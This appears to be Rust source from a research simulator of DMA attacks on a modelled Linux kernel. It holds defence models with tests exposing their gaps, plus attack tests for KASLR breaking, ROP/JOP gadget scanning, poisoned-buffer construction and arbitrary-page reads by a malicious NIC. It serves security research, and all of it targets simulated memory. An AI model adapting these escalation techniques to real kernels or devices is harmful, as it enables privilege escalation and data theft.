        assert!(cet.invoke_callback(&mut ctx, &mem, buf, buf).is_err());
    }

    #[test]
    fn cet_blocks_mid_function_addresses() {
        let (mut ctx, mem, img) = setup();
        let cet = CetCpu::new(&img, mem.layout.text_base);
        let entry = img
            .symbol_addr("commit_creds", mem.layout.text_base)
            .unwrap();
        // One byte past the ENDBR-marked entry is not a valid target.
        assert!(cet
            .invoke_callback(&mut ctx, &mem, Kva(entry.raw() + 1), Kva(0))
            .is_err());
    }
}
