//! DAMN-style dedicated DMA allocation (§8, \[49\]): network buffers come
//! from pages used *only* for I/O, zero-copy.
//!
//! This separates I/O memory from CPU memory — kmalloc'd kernel objects
//! never share an I/O page — but the paper's §9.2 critique is that the
//! API "can be easily thwarted by device drivers via functions, such as
//! build_skb, that add a vulnerable skb_shared_info into an I/O
//! region". The tests demonstrate exactly that residual exposure.

use dma_core::{DmaError, Event, Kva, Result, SimCtx, PAGE_SIZE};
use sim_mem::MemorySystem;
use std::collections::HashMap;

/// A DMA-only allocator: page-granular pool, bump-carved per page, with
/// the guarantee that no non-I/O object is ever placed on its pages.
#[derive(Debug, Default)]
pub struct DamnAllocator {
    /// Active carving page and offset.
    current: Option<(Kva, usize)>,
    /// Live allocations per page (for recycling).
    refs: HashMap<u64, usize>,
    /// Pages owned by the allocator.
    pages: Vec<Kva>,
}

impl DamnAllocator {
    /// Creates an empty allocator.
    pub fn new() -> Self {
        DamnAllocator::default()
    }

    /// Allocates `size` bytes of I/O-only memory.
    pub fn alloc(&mut self, ctx: &mut SimCtx, mem: &mut MemorySystem, size: usize) -> Result<Kva> {
        if size == 0 || size > PAGE_SIZE {
            return Err(DmaError::InvalidAlloc(size));
        }
        let (page, used) = match self.current {
            Some((page, used)) if used + size <= PAGE_SIZE => (page, used),
            _ => {
                let pfn = mem.alloc_pages(ctx, 0, "damn_alloc_page")?;
                let page = mem.layout.pfn_to_kva(pfn)?;
                self.pages.push(page);
                self.refs.insert(page.raw(), 0);
                self.current = Some((page, 0));
                (page, 0)
            }
        };
        let kva = Kva(page.raw() + used as u64);
        self.current = Some((page, (used + size + 63) & !63));
        *self.refs.get_mut(&page.raw()).expect("tracked page") += 1;
        ctx.emit(Event::Alloc {
            at: ctx.clock.now(),
            kva,
            size,
            site: "damn_alloc",
            cache: "damn",
        });
        Ok(kva)
    }

    /// Frees an I/O buffer.
    pub fn free(&mut self, ctx: &mut SimCtx, kva: Kva) -> Result<()> {
        let page = kva.page_align_down();
        let r = self
            .refs
            .get_mut(&page.raw())
            .ok_or(DmaError::BadFree(kva.raw()))?;
        if *r == 0 {
            return Err(DmaError::BadFree(kva.raw()));
        }
        *r -= 1;
        ctx.emit(Event::Free {
            at: ctx.clock.now(),
            kva,
        });
        Ok(())
    }

    /// `true` if `kva` lies on a DAMN-owned page.
    pub fn owns(&self, kva: Kva) -> bool {
        self.refs.contains_key(&kva.page_align_down().raw())
    }

    /// Invariant check: none of the allocator's pages host a slab.
    pub fn pages_are_io_only(&self, mem: &MemorySystem) -> bool {
        self.pages.iter().all(|p| {
            mem.layout
                .kva_to_pfn(*p)
                .map(|pfn| !mem.kmalloc.is_slab_page(pfn))
                .unwrap_or(false)
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use devsim::MaliciousNic;
    use dma_core::vuln::DmaDirection;
    use dma_core::Iova;
    use sim_iommu::{dma_map_single, InvalidationMode, Iommu, IommuConfig};
    use sim_mem::MemConfig;
    use sim_net::shinfo::{SHINFO_DESTRUCTOR_ARG, SHINFO_SIZE};
    use sim_net::skb::build_skb;

    fn setup() -> (SimCtx, MemorySystem, Iommu, DamnAllocator, MaliciousNic) {
        let mut ctx = SimCtx::new();
        let mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(5);
        let _ = &mut ctx;
        (ctx, mem, iommu, DamnAllocator::new(), MaliciousNic::new(5))
    }

    #[test]
    fn io_pages_never_host_kernel_objects() {
        let (mut ctx, mut mem, _iommu, mut damn, _nic) = setup();
        let io = damn.alloc(&mut ctx, &mut mem, 1024).unwrap();
        // Kernel churn cannot land on the I/O page.
        for _ in 0..64 {
            let k = mem.kmalloc(&mut ctx, 1024, "kernel_obj").unwrap();
            assert_ne!(k.page_align_down(), io.page_align_down());
        }
        assert!(damn.pages_are_io_only(&mem));
        assert!(damn.owns(io));
    }

    #[test]
    fn random_colocation_leak_is_gone() {
        // Type (d) defeated: scanning the mapped I/O page finds nothing.
        let (mut ctx, mut mem, mut iommu, mut damn, nic) = setup();
        // Ambient kernel state full of pointers.
        for i in 0..16 {
            let k = mem.kmalloc(&mut ctx, 512, "sock_alloc_inode").unwrap();
            mem.cpu_write_u64(&mut ctx, k, mem.layout.text_base.raw() + i, "t")
                .unwrap();
        }
        let io = damn.alloc(&mut ctx, &mut mem, 512).unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            5,
            io,
            512,
            DmaDirection::Bidirectional,
            "m",
        )
        .unwrap();
        let leaks = nic
            .scan_for_pointers(
                &mut ctx,
                &mut iommu,
                &mem.phys,
                Iova(m.iova.raw() & !0xfff),
                PAGE_SIZE,
            )
            .unwrap();
        assert!(leaks.is_empty(), "DAMN page leaked pointers: {leaks:?}");
    }

    #[test]
    fn build_skb_reintroduces_the_shinfo_exposure() {
        // §9.2: DAMN "can be easily thwarted by device drivers via
        // functions, such as build_skb" — the shared info ends up inside
        // the DAMN buffer, device-writable as ever.
        let (mut ctx, mut mem, mut iommu, mut damn, nic) = setup();
        let buf_size = 2048 - SHINFO_SIZE;
        let io = damn.alloc(&mut ctx, &mut mem, 2048).unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            5,
            io,
            2048,
            DmaDirection::FromDevice,
            "rx",
        )
        .unwrap();
        let skb = build_skb(
            &mut ctx,
            &mut mem,
            io,
            buf_size,
            sim_net::skb::AllocKind::Kmalloc,
        )
        .unwrap();
        // The device overwrites destructor_arg through the live mapping.
        nic.write_u64(
            &mut ctx,
            &mut iommu,
            &mut mem.phys,
            Iova(m.iova.raw() + buf_size as u64 + SHINFO_DESTRUCTOR_ARG as u64),
            0xdead_beef,
        )
        .unwrap();
        assert_eq!(
            skb.shinfo().destructor_arg(&mut ctx, &mem).unwrap(),
            0xdead_beef,
            "the callback exposure survives DAMN"
        );
    }

    #[test]
    fn alloc_free_lifecycle() {
        let (mut ctx, mut mem, _iommu, mut damn, _nic) = setup();
        let a = damn.alloc(&mut ctx, &mut mem, 100).unwrap();
        let b = damn.alloc(&mut ctx, &mut mem, 100).unwrap();
        assert_eq!(
            a.page_align_down(),
            b.page_align_down(),
            "carved from one page"
        );
        damn.free(&mut ctx, a).unwrap();
        damn.free(&mut ctx, b).unwrap();
        assert!(damn.free(&mut ctx, b).is_err(), "double free detected");
        assert!(damn.alloc(&mut ctx, &mut mem, 0).is_err());
        assert!(damn.alloc(&mut ctx, &mut mem, PAGE_SIZE + 1).is_err());
    }
}
