//! Intel-style sub-page protection (§8, \[34\]): enforce *byte-range*
//! bounds on DMA mappings instead of page bounds.
//!
//! The paper's caveat: "Since the buffers are still fixed in size, the
//! same vulnerability remains, albeit for buffers smaller than a page."
//! More importantly, the protection only helps if the driver maps the
//! *packet bytes*, not the whole buffer; network drivers map the full
//! `truesize` region — shared info included — so nothing changes for
//! them. Both cases are demonstrated in the tests.

use dma_core::trace::DeviceId;
use dma_core::{DmaError, Iova, Result, SimCtx};
use sim_iommu::Iommu;
use sim_mem::PhysMemory;
use std::collections::HashMap;

/// A byte-granular bounds checker layered over the IOMMU.
///
/// Real sub-page hardware would refuse the transaction; the model wraps
/// the device-access path and faults on out-of-range bytes before
/// forwarding to the page-level IOMMU.
#[derive(Debug, Default)]
pub struct SubPageIommu {
    /// Registered byte ranges: (device, iova base) → length.
    ranges: HashMap<(DeviceId, u64), usize>,
}

impl SubPageIommu {
    /// Creates an empty range table.
    pub fn new() -> Self {
        SubPageIommu::default()
    }

    /// Registers the precise byte range of a mapping.
    pub fn register(&mut self, dev: DeviceId, iova: Iova, len: usize) {
        self.ranges.insert((dev, iova.raw()), len);
    }

    /// Removes a range on unmap.
    pub fn unregister(&mut self, dev: DeviceId, iova: Iova) {
        self.ranges.remove(&(dev, iova.raw()));
    }

    fn check(&self, dev: DeviceId, iova: Iova, len: usize, write: bool) -> Result<()> {
        let allowed = self.ranges.iter().any(|(&(d, base), &rlen)| {
            d == dev && iova.raw() >= base && iova.raw() + len as u64 <= base + rlen as u64
        });
        if allowed {
            Ok(())
        } else {
            Err(DmaError::IommuPermission {
                device: dev,
                iova: iova.raw(),
                write,
            })
        }
    }

    /// Bounds-checked device write.
    pub fn dev_write(
        &self,
        ctx: &mut SimCtx,
        iommu: &mut Iommu,
        phys: &mut PhysMemory,
        dev: DeviceId,
        iova: Iova,
        buf: &[u8],
    ) -> Result<()> {
        self.check(dev, iova, buf.len(), true)?;
        iommu.dev_write(ctx, phys, dev, iova, buf)
    }

    /// Bounds-checked device read.
    pub fn dev_read(
        &self,
        ctx: &mut SimCtx,
        iommu: &mut Iommu,
        phys: &PhysMemory,
        dev: DeviceId,
        iova: Iova,
        buf: &mut [u8],
    ) -> Result<()> {
        self.check(dev, iova, buf.len(), false)?;
        iommu.dev_read(ctx, phys, dev, iova, buf)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::vuln::DmaDirection;
    use sim_iommu::{dma_map_single, InvalidationMode, IommuConfig};
    use sim_mem::{MemConfig, MemorySystem};
    use sim_net::shinfo::{SHINFO_DESTRUCTOR_ARG, SHINFO_SIZE};

    fn setup() -> (SimCtx, MemorySystem, Iommu, SubPageIommu) {
        let ctx = SimCtx::new();
        let mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(3);
        (ctx, mem, iommu, SubPageIommu::new())
    }

    #[test]
    fn in_range_access_passes_out_of_range_faults() {
        let (mut ctx, mut mem, mut iommu, mut sp) = setup();
        let io = mem.kmalloc(&mut ctx, 256, "io").unwrap();
        let victim = mem.kmalloc(&mut ctx, 256, "victim").unwrap();
        assert_eq!(io.page_align_down(), victim.page_align_down());
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            3,
            io,
            256,
            DmaDirection::Bidirectional,
            "m",
        )
        .unwrap();
        sp.register(3, m.iova, 256);

        sp.dev_write(&mut ctx, &mut iommu, &mut mem.phys, 3, m.iova, b"fine")
            .unwrap();
        // The co-located victim is now out of the registered byte range.
        let off = victim - io;
        let err = sp
            .dev_write(
                &mut ctx,
                &mut iommu,
                &mut mem.phys,
                3,
                Iova(m.iova.raw() + off),
                b"pwn",
            )
            .unwrap_err();
        assert!(matches!(err, DmaError::IommuPermission { .. }));
        // A straddle across the boundary also faults.
        assert!(sp
            .dev_write(
                &mut ctx,
                &mut iommu,
                &mut mem.phys,
                3,
                Iova(m.iova.raw() + 250),
                b"12345678"
            )
            .is_err());
    }

    #[test]
    fn whole_buffer_mappings_remain_vulnerable() {
        // The realistic case: the driver registers the full 2 KiB RX
        // buffer (it must — the device writes anywhere in it), and the
        // shared info lives inside that range. Sub-page protection
        // changes nothing.
        let (mut ctx, mut mem, mut iommu, mut sp) = setup();
        let buf_size = 2048 - SHINFO_SIZE;
        let rx = mem.page_frag_alloc(&mut ctx, 2048, "rx").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            3,
            rx,
            2048,
            DmaDirection::FromDevice,
            "m",
        )
        .unwrap();
        sp.register(3, m.iova, 2048);
        sp.dev_write(
            &mut ctx,
            &mut iommu,
            &mut mem.phys,
            3,
            Iova(m.iova.raw() + (buf_size + SHINFO_DESTRUCTOR_ARG) as u64),
            &0xbad_u64.to_le_bytes(),
        )
        .expect("shinfo is inside the registered range — still writable");
    }

    #[test]
    fn unregister_revokes_byte_range() {
        let (mut ctx, mut mem, mut iommu, mut sp) = setup();
        let io = mem.kmalloc(&mut ctx, 128, "io").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            3,
            io,
            128,
            DmaDirection::Bidirectional,
            "m",
        )
        .unwrap();
        sp.register(3, m.iova, 128);
        sp.dev_write(&mut ctx, &mut iommu, &mut mem.phys, 3, m.iova, b"x")
            .unwrap();
        sp.unregister(3, m.iova);
        assert!(sp
            .dev_write(&mut ctx, &mut iommu, &mut mem.phys, 3, m.iova, b"x")
            .is_err());
    }

    #[test]
    fn ranges_are_per_device() {
        let (mut ctx, mut mem, mut iommu, mut sp) = setup();
        iommu.attach_device(4);
        let io = mem.kmalloc(&mut ctx, 128, "io").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            3,
            io,
            128,
            DmaDirection::Bidirectional,
            "m",
        )
        .unwrap();
        sp.register(3, m.iova, 128);
        let mut b = [0u8; 4];
        assert!(sp
            .dev_read(&mut ctx, &mut iommu, &mem.phys, 4, m.iova, &mut b)
            .is_err());
    }
}
