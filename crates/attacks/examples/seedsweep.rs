//! Robustness sweep: run every compound attack across many fresh victim
//! boots and report any blocked/failed outcome. Used during development
//! to keep the attacks seed-independent where the paper says they are.

use attacks::image::KernelImage;
use attacks::ringflood::{self, BootSurvey};
use attacks::{forward_thinking, poisoned_tx};
use dma_core::vuln::WindowPath;

fn main() {
    let image = KernelImage::build(1, 16 << 20);
    let mut failures = 0;

    for seed in 0..400u64 {
        let r = poisoned_tx::run(&image, WindowPath::DeferredIotlb, seed).unwrap();
        if !r.outcome.succeeded() {
            println!("poisoned_tx seed {seed}: {:?}", r.outcome);
            failures += 1;
        }
    }
    for seed in 0..200u64 {
        let r = forward_thinking::run(&image, WindowPath::DeferredIotlb, seed).unwrap();
        if !r.outcome.succeeded() {
            println!("forward_thinking seed {seed}: {:?}", r.outcome);
            failures += 1;
        }
    }
    // RingFlood succeeds only when the PFN guess is resident; count the
    // hit rate instead (the paper predicts >50%).
    let survey = BootSurvey::run(ringflood::kernel50_driver(), 64, 0).unwrap();
    let mut hits = 0;
    for seed in 10_000..10_100u64 {
        let r = ringflood::run(
            &image,
            ringflood::kernel50_driver(),
            WindowPath::NeighborIova,
            seed,
            &survey,
        )
        .unwrap();
        if r.outcome.succeeded() {
            hits += 1;
        } else if r.guess_was_resident {
            println!("ringflood seed {seed}: resident guess but {:?}", r.outcome);
            failures += 1;
        }
    }
    println!("ringflood hit rate: {hits}/100");

    // The kaslr-break primitive on its own, over the bench's seed cycle.
    for seed in 0..200u64 {
        let mut tb =
            ringflood::boot(ringflood::kernel50_driver(), WindowPath::NeighborIova, seed).unwrap();
        let k = ringflood::break_kaslr(&mut tb).unwrap();
        if k.text_base.is_none() || k.page_offset_base.is_none() {
            println!("break_kaslr seed {seed}: incomplete {k:?}");
            failures += 1;
        }
    }
    println!("sweep done, {failures} unexpected failures");
}
