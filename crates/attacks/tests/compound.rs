//! End-to-end tests for the three compound attacks (§5.3–§5.5) and the
//! §6 demonstration claims.

use attacks::forward_thinking;
use attacks::image::KernelImage;
use attacks::poisoned_tx;
use attacks::ringflood::{self, BootSurvey};
use dma_core::vuln::WindowPath;
use dma_core::{Kva, Pfn};

fn image() -> KernelImage {
    KernelImage::build(1, 16 << 20)
}

#[test]
fn ringflood_survey_kernel50_has_majority_pfn() {
    // §5.3: "many PFNs repeat in more than 50% of reboots on kernel 5.0".
    let survey = BootSurvey::run(ringflood::kernel50_driver(), 64, 0).unwrap();
    let (_, frac) = survey.most_common().unwrap();
    assert!(frac > 0.5, "most common PFN fraction {frac} ≤ 0.5");
    assert!(survey.pfns_above(0.5) >= 1);
}

#[test]
fn ringflood_survey_kernel415_is_more_predictable() {
    // §5.3: "more than 95% on kernel 4.15" (HW LRO, 64 KiB buffers).
    let s50 = BootSurvey::run(ringflood::kernel50_driver(), 48, 0).unwrap();
    let s415 = BootSurvey::run(ringflood::kernel415_driver(), 48, 0).unwrap();
    let (_, f50) = s50.most_common().unwrap();
    let (_, f415) = s415.most_common().unwrap();
    assert!(f415 > 0.95, "kernel-4.15 fraction {f415} ≤ 0.95");
    assert!(f415 >= f50, "larger footprint must not be less predictable");
    // And the big-footprint config has many more high-confidence PFNs.
    assert!(s415.pfns_above(0.95) > s50.pfns_above(0.95));
}

#[test]
fn ringflood_attack_escalates_on_resident_guess() {
    let img = image();
    let survey = BootSurvey::run(ringflood::kernel50_driver(), 48, 0).unwrap();
    // Attack fresh victims (seeds outside the profiled range); at least
    // half the boots should host the guessed frame, and every resident
    // guess must convert into code execution.
    let mut resident = 0;
    let mut escalated = 0;
    let n = 8;
    for victim in 1000..1000 + n {
        let report = ringflood::run(
            &img,
            ringflood::kernel50_driver(),
            WindowPath::NeighborIova,
            victim,
            &survey,
        )
        .unwrap();
        if report.guess_was_resident {
            resident += 1;
            assert!(
                report.outcome.succeeded(),
                "resident guess must escalate, got {:?} (victim {victim})",
                report.outcome
            );
        }
        if report.outcome.succeeded() {
            escalated += 1;
            assert!(report.knowledge.text_base.is_some());
        }
    }
    assert!(
        resident * 2 >= n,
        "guess resident in only {resident}/{n} boots"
    );
    assert!(escalated >= resident);
}

#[test]
fn ringflood_blocked_when_guess_not_resident() {
    // A survey of a *different* machine (64 KiB buffers) yields a PFN
    // guess that misses on the 2 KiB victim: the attack must report
    // Blocked, not crash.
    let img = image();
    let bogus_survey = BootSurvey {
        boots: 1,
        freq: [(3u64, 1u32)].into_iter().collect(), // reserved low frame
    };
    let report = ringflood::run(
        &img,
        ringflood::kernel50_driver(),
        WindowPath::NeighborIova,
        7,
        &bogus_survey,
    )
    .unwrap();
    assert!(!report.guess_was_resident);
    assert!(!report.outcome.succeeded());
}

#[test]
fn ringflood_works_through_all_three_window_paths() {
    let img = image();
    let survey = BootSurvey::run(ringflood::kernel50_driver(), 48, 0).unwrap();
    for path in [
        WindowPath::UnmapAfterBuild,
        WindowPath::DeferredIotlb,
        WindowPath::NeighborIova,
    ] {
        let mut any = false;
        for victim in 2000..2010 {
            let r =
                ringflood::run(&img, ringflood::kernel50_driver(), path, victim, &survey).unwrap();
            if r.outcome.succeeded() {
                any = true;
                break;
            }
        }
        assert!(any, "no victim seed escalated via {path}");
    }
}

#[test]
fn poisoned_tx_escalates_without_pfn_guessing() {
    let img = image();
    let report = poisoned_tx::run(&img, WindowPath::DeferredIotlb, 42).unwrap();
    assert!(report.outcome.succeeded(), "outcome: {:?}", report.outcome);
    assert!(
        report.knowledge.complete(),
        "round-1 scan must break all of KASLR"
    );
    assert!(report.poison_kva.is_some());
    assert!(!report.watchdog_fired, "attack must beat the TX watchdog");
}

#[test]
fn poisoned_tx_works_across_seeds_and_paths() {
    let img = image();
    for seed in [7, 99, 12345] {
        for path in [WindowPath::UnmapAfterBuild, WindowPath::NeighborIova] {
            let report = poisoned_tx::run(&img, path, seed).unwrap();
            assert!(
                report.outcome.succeeded(),
                "seed {seed} path {path}: {:?}",
                report.outcome
            );
        }
    }
}

#[test]
fn poisoned_tx_recovers_true_poison_location() {
    // The KVA read from the TX frags must point at real memory holding
    // the attacker's bytes — cross-check against the kernel's own layout.
    let img = image();
    let report = poisoned_tx::run(&img, WindowPath::DeferredIotlb, 5).unwrap();
    let kva = report.poison_kva.unwrap();
    assert!(dma_core::layout::VmRegion::classify(kva.raw()).is_some());
}

#[test]
fn forward_thinking_escalates_via_gro_frags() {
    let img = image();
    let report = forward_thinking::run(&img, WindowPath::DeferredIotlb, 11).unwrap();
    assert!(report.outcome.succeeded(), "outcome: {:?}", report.outcome);
    // vmemmap base must have been learned from the GRO frag pointer.
    assert!(report.knowledge.vmemmap_base.is_some());
}

#[test]
fn forward_thinking_all_window_paths() {
    let img = image();
    for path in [WindowPath::UnmapAfterBuild, WindowPath::NeighborIova] {
        let report = forward_thinking::run(&img, path, 21).unwrap();
        assert!(
            report.outcome.succeeded(),
            "path {path}: {:?}",
            report.outcome
        );
    }
}

#[test]
fn surveillance_reads_arbitrary_pages() {
    // §5.5: "the NIC can generate a small UDP packet and fill in the
    // frags array with any arbitrary struct page addresses ... providing
    // READ access to the NIC for any page in the system."
    let img = image();
    let mut tb = forward_thinking::boot(WindowPath::UnmapAfterBuild, 31).unwrap();
    tb.mem.install_text(&img.bytes);
    let knowledge = attacks::ringflood::break_kaslr(&mut tb).unwrap();
    let knowledge = forward_thinking::leak_vmemmap(&mut tb, &knowledge).unwrap();

    // Plant a secret in a random kernel buffer the device has no mapping
    // for whatsoever.
    let secret_buf = tb.mem.kmalloc(&mut tb.ctx, 4096, "vault").unwrap();
    tb.mem
        .cpu_write(
            &mut tb.ctx,
            Kva(secret_buf.raw() + 100),
            b"TOP-SECRET-KEY-MATERIAL",
            "vault",
        )
        .unwrap();
    let target_pfn = tb.mem.layout.kva_to_pfn(secret_buf).unwrap();

    let report = forward_thinking::surveil(&mut tb, &knowledge, target_pfn, 100, 23).unwrap();
    assert_eq!(&report.stolen, b"TOP-SECRET-KEY-MATERIAL");
    assert_eq!(report.target, target_pfn);
}

#[test]
fn surveillance_can_walk_many_frames() {
    let img = image();
    let mut tb = forward_thinking::boot(WindowPath::UnmapAfterBuild, 33).unwrap();
    tb.mem.install_text(&img.bytes);
    let knowledge = attacks::ringflood::break_kaslr(&mut tb).unwrap();
    let knowledge = forward_thinking::leak_vmemmap(&mut tb, &knowledge).unwrap();
    // Read the first bytes of several arbitrary frames; all must succeed.
    for pfn in [0x300u64, 0x800, 0x1000, 0x2000] {
        let r = forward_thinking::surveil(&mut tb, &knowledge, Pfn(pfn), 0, 16).unwrap();
        assert_eq!(r.stolen.len(), 16);
    }
}

#[test]
fn init_net_offsets_agree_across_crates() {
    // The sim-net stack and the attack image must model the same symbol.
    assert_eq!(
        sim_net::stack::INIT_NET_IMAGE_OFFSET,
        attacks::image::INIT_NET_OFFSET
    );
}
