//! Property-based tests for the attack toolkit: scanner totality,
//! poison-buffer structure, aliasing arithmetic, and cookie recovery.

use attacks::cookie::{blind, recover_cookie};
use attacks::image::{KernelImage, JOP_PIVOT_DISP};
use attacks::kaslr::AttackerKnowledge;
use attacks::rop::PoisonedBuffer;
use attacks::scan_gadgets;
use devsim::MaliciousNic;
use dma_core::layout::VmRegion;
use dma_core::{Iova, Kva, PAGE_MASK};
use proptest::prelude::*;
use std::sync::OnceLock;

/// One shared image for the whole suite — building it costs ~100 ms.
fn shared_image() -> &'static KernelImage {
    static IMG: OnceLock<KernelImage> = OnceLock::new();
    IMG.get_or_init(|| KernelImage::build(3, 16 << 20))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn gadget_scanner_is_total(bytes in proptest::collection::vec(any::<u8>(), 0..4096)) {
        let gadgets = scan_gadgets(&bytes);
        // Every reported gadget must actually decode at its offset.
        for g in gadgets {
            let off = g.offset as usize;
            prop_assert!(off < bytes.len());
            match g.kind {
                attacks::GadgetKind::PopRdiRet => {
                    prop_assert_eq!(&bytes[off..off + 2], &[0x5f, 0xc3]);
                }
                attacks::GadgetKind::MovRdiRaxRet => {
                    prop_assert_eq!(&bytes[off..off + 4], &[0x48, 0x89, 0xc7, 0xc3]);
                }
                attacks::GadgetKind::JopRspRdi { disp } => {
                    prop_assert_eq!(&bytes[off..off + 3], &[0x48, 0x8d, 0x67]);
                    prop_assert_eq!(bytes[off + 3], disp);
                    prop_assert_eq!(bytes[off + 4], 0xc3);
                }
            }
        }
    }

    #[test]
    fn poison_chain_words_are_text_addresses_or_null(slot in 0u64..248) {
        let img = shared_image();
        let base = VmRegion::KernelText.start() + slot * 0x20_0000;
        let k = AttackerKnowledge {
            text_base: Some(Kva(base)),
            page_offset_base: Some(Kva(VmRegion::DirectMap.start())),
            vmemmap_base: Some(Kva(VmRegion::Vmemmap.start())),
        };
        let pb = PoisonedBuffer::build(img, &k).unwrap();
        // ubuf callback + every chain word: either NULL (an argument) or
        // inside the victim's text range.
        for (i, w) in pb.bytes.chunks_exact(8).enumerate() {
            let v = u64::from_le_bytes(w.try_into().unwrap());
            let in_chain = i * 8 >= JOP_PIVOT_DISP as usize || i == 0;
            if in_chain && v != 0 {
                prop_assert!(v >= base && v < base + (16 << 20), "word {i} = {v:#x} outside image");
            }
        }
    }

    #[test]
    fn alias_preserves_in_page_offset(a in any::<u64>(), b_page in 0u64..(1 << 40)) {
        let nic = MaliciousNic::new(1);
        let target = Iova(a);
        let neighbor = Iova(b_page << 12);
        let alias = nic.alias_through_neighbor(target, neighbor).unwrap();
        prop_assert_eq!(alias.page_offset(), target.page_offset());
        prop_assert_eq!(alias.page_align_down(), neighbor.page_align_down());
    }

    #[test]
    fn cookie_recovery_is_exact(cookie in any::<u64>(), a_off in 0u64..(1 << 21), b_off in 0u64..(1 << 21)) {
        prop_assume!(a_off != b_off);
        let a = VmRegion::KernelText.start() + a_off;
        let b = VmRegion::KernelText.start() + b_off;
        let samples = [blind(a, cookie), blind(b, cookie)];
        prop_assert_eq!(recover_cookie(&samples, &[a, b]), Some(cookie));
    }

}

proptest! {
    // Image builds cost ~100 ms each; keep this property to a few cases.
    #![proptest_config(ProptestConfig::with_cases(6))]

    #[test]
    fn image_symbols_stay_inside_text(seed in any::<u64>()) {
        let img = KernelImage::build(seed, 16 << 20);
        for s in &img.symbols {
            prop_assert!((s.offset as usize) < img.bytes.len());
        }
        // The pivot gadget is always discoverable by the scanner.
        let found = scan_gadgets(&img.bytes)
            .into_iter()
            .any(|g| matches!(g.kind, attacks::GadgetKind::JopRspRdi { .. }));
        prop_assert!(found);
    }

    #[test]
    fn kaslr_absorb_never_produces_misaligned_bases(values in proptest::collection::vec(any::<u64>(), 0..32)) {
        let mut k = AttackerKnowledge::new();
        let leaks: Vec<devsim::LeakedPointer> = values
            .iter()
            .filter_map(|&v| {
                VmRegion::classify(v).map(|region| devsim::LeakedPointer { iova: Iova(0), value: v, region })
            })
            .collect();
        k.absorb(&leaks);
        if let Some(t) = k.text_base {
            prop_assert_eq!(t.raw() % dma_core::layout::TEXT_ALIGN, 0);
        }
        if let Some(d) = k.page_offset_base {
            prop_assert_eq!(d.raw() % dma_core::layout::SECTION_ALIGN, 0);
            prop_assert_eq!(d.raw() & PAGE_MASK, 0);
        }
        if let Some(v) = k.vmemmap_base {
            prop_assert_eq!(v.raw() % dma_core::layout::SECTION_ALIGN, 0);
        }
    }
}
