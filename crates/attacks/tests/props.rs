//! Property-style tests for the attack toolkit: scanner totality,
//! poison-buffer structure, aliasing arithmetic, and cookie recovery.
//!
//! Inputs are generated from the in-tree seeded `DetRng` (no external
//! property-testing framework) so the suite builds offline.

use attacks::cookie::{blind, recover_cookie};
use attacks::image::{KernelImage, JOP_PIVOT_DISP};
use attacks::kaslr::AttackerKnowledge;
use attacks::rop::PoisonedBuffer;
use attacks::scan_gadgets;
use devsim::MaliciousNic;
use dma_core::layout::VmRegion;
use dma_core::{DetRng, Iova, Kva, PAGE_MASK};
use std::sync::OnceLock;

const CASES: usize = 64;

/// One shared image for the whole suite — building it costs ~100 ms.
fn shared_image() -> &'static KernelImage {
    static IMG: OnceLock<KernelImage> = OnceLock::new();
    IMG.get_or_init(|| KernelImage::build(3, 16 << 20))
}

#[test]
fn gadget_scanner_is_total() {
    let mut meta = DetRng::new(0x51);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut bytes = vec![0u8; rng.below(4096) as usize];
        rng.fill_bytes(&mut bytes);
        let gadgets = scan_gadgets(&bytes);
        // Every reported gadget must actually decode at its offset.
        for g in gadgets {
            let off = g.offset as usize;
            assert!(off < bytes.len(), "case {case}");
            match g.kind {
                attacks::GadgetKind::PopRdiRet => {
                    assert_eq!(&bytes[off..off + 2], &[0x5f, 0xc3], "case {case}");
                }
                attacks::GadgetKind::MovRdiRaxRet => {
                    assert_eq!(
                        &bytes[off..off + 4],
                        &[0x48, 0x89, 0xc7, 0xc3],
                        "case {case}"
                    );
                }
                attacks::GadgetKind::JopRspRdi { disp } => {
                    assert_eq!(&bytes[off..off + 3], &[0x48, 0x8d, 0x67], "case {case}");
                    assert_eq!(bytes[off + 3], disp, "case {case}");
                    assert_eq!(bytes[off + 4], 0xc3, "case {case}");
                }
            }
        }
    }
}

#[test]
fn poison_chain_words_are_text_addresses_or_null() {
    let mut meta = DetRng::new(0x52);
    let img = shared_image();
    for case in 0..CASES {
        let slot = meta.below(248);
        let base = VmRegion::KernelText.start() + slot * 0x20_0000;
        let k = AttackerKnowledge {
            text_base: Some(Kva(base)),
            page_offset_base: Some(Kva(VmRegion::DirectMap.start())),
            vmemmap_base: Some(Kva(VmRegion::Vmemmap.start())),
        };
        let pb = PoisonedBuffer::build(img, &k).unwrap();
        // ubuf callback + every chain word: either NULL (an argument) or
        // inside the victim's text range.
        for (i, w) in pb.bytes.chunks_exact(8).enumerate() {
            let v = u64::from_le_bytes(w.try_into().unwrap());
            let in_chain = i * 8 >= JOP_PIVOT_DISP as usize || i == 0;
            if in_chain && v != 0 {
                assert!(
                    v >= base && v < base + (16 << 20),
                    "case {case}: word {i} = {v:#x} outside image"
                );
            }
        }
    }
}

#[test]
fn alias_preserves_in_page_offset() {
    let mut meta = DetRng::new(0x53);
    for case in 0..CASES {
        let a = meta.next_u64();
        let b_page = meta.below(1 << 40);
        let nic = MaliciousNic::new(1);
        let target = Iova(a);
        let neighbor = Iova(b_page << 12);
        let alias = nic.alias_through_neighbor(target, neighbor).unwrap();
        assert_eq!(alias.page_offset(), target.page_offset(), "case {case}");
        assert_eq!(
            alias.page_align_down(),
            neighbor.page_align_down(),
            "case {case}"
        );
    }
}

#[test]
fn cookie_recovery_is_exact() {
    let mut meta = DetRng::new(0x54);
